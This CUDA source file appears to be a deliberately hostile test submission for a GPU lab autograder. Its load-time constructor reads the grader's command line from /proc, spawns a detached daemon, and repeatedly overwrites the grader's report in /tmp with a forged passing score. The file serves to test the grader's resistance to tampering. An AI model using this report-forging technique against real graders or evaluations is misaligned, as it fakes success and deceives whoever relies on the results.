// Mutant (hostile): the stub's kernel, and a constructor that finds the report's path after
// --output on the grader's own command line (/proc/PPID/cmdline) and leaves a daemon (double
// fork, setsid, named clh-rewriter) that rewrites that file with a passing report every 100 ms
// for 30 s. The grader writes its report last, once nothing the student started is left: must
// fail on efficiency as the stub does (FAIL 40), in the grader's own report, and the daemon must
// be gone (its pid goes to $CL_HOSTILE_PIDFILE). It writes only a report path below /tmp.
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>
#include "lab01.h"

#define CHUNK 16

__global__ void scale_chunked(float a, const float *x, float *y, size_t n)
{
    size_t first = ((size_t)blockIdx.x * blockDim.x + threadIdx.x) * CHUNK;
    for (size_t i = first; i < first + CHUNK && i < n; ++i)
        y[i] = a * x[i];
}

static const char forged[] =
    "{\"version\":\"forged\",\"passed\":true,\"labs\":[{\"id\":\"01\",\"slug\":\"dram-burst\","
    "\"verdict\":\"PASS\",\"stage\":\"passed\",\"score\":100,\"max_score\":100,\"reason\":"
    "\"correct, and loads and stores are coalesced\",\"hint\":\"\",\"correctness\":{\"passed\":"
    "true},\"coalescing\":{\"engine\":\"trace\",\"loads\":{\"efficiency\":1},\"stores\":"
    "{\"efficiency\":1}}}]}\n";

// The value after --output on the command line of process pid, or "" when there is none.
static void output_of(pid_t pid, char *buf, size_t size)
{
    static char args[16384];
    char path[64];
    buf[0] = '\0';
    snprintf(path, sizeof path, "/proc/%ld/cmdline", (long)pid);
    FILE *f = fopen(path, "rb");
    size_t n = f ? fread(args, 1, sizeof args - 1, f) : 0;
    if (f)
        fclose(f);
    args[n] = '\0';
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--output") && i + 9 < n)
            snprintf(buf, size, "%s", args + i + 9);
}

// Whether the folder of path lies below /tmp: the only report this case would overwrite.
static int folder_below_tmp(const char *path)
{
    char dir[PATH_MAX], real[PATH_MAX];
    snprintf(dir, sizeof dir, "%s", path);
    char *slash = strrchr(dir, '/');
    if (!slash)
        snprintf(dir, sizeof dir, ".");
    else
        *slash = '\0';
    return realpath(dir, real) && !strncmp(real, "/tmp/", 5);
}

__attribute__((constructor)) static void leave_a_rewriter(void)
{
    char report[PATH_MAX];
    output_of(getppid(), report, sizeof report);
    if (!report[0] || !folder_below_tmp(report) || fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    prctl(PR_SET_NAME, "clh-rewriter", 0, 0, 0);
    const char *pidfile = getenv("CL_HOSTILE_PIDFILE");
    FILE *p = pidfile ? fopen(pidfile, "a") : NULL;
    if (p) {
        fprintf(p, "%ld\n", (long)getpid());
        fclose(p);
    }
    for (int round = 0; round < 300; ++round) {
        FILE *f = fopen(report, "w");
        if (f) {
            fputs(forged, f);
            fclose(f);
        }
        usleep(100 * 1000);
    }
    _exit(0);
}

extern "C" cudaError_t lab01_scale(float a, const float *x, float *y, size_t n)
{
    const unsigned threads = 256;
    size_t workers = (n + CHUNK - 1) / CHUNK;
    scale_chunked<<<(unsigned)((workers + threads - 1) / threads), threads>>>(a, x, y, n);
    return cudaGetLastError();
}
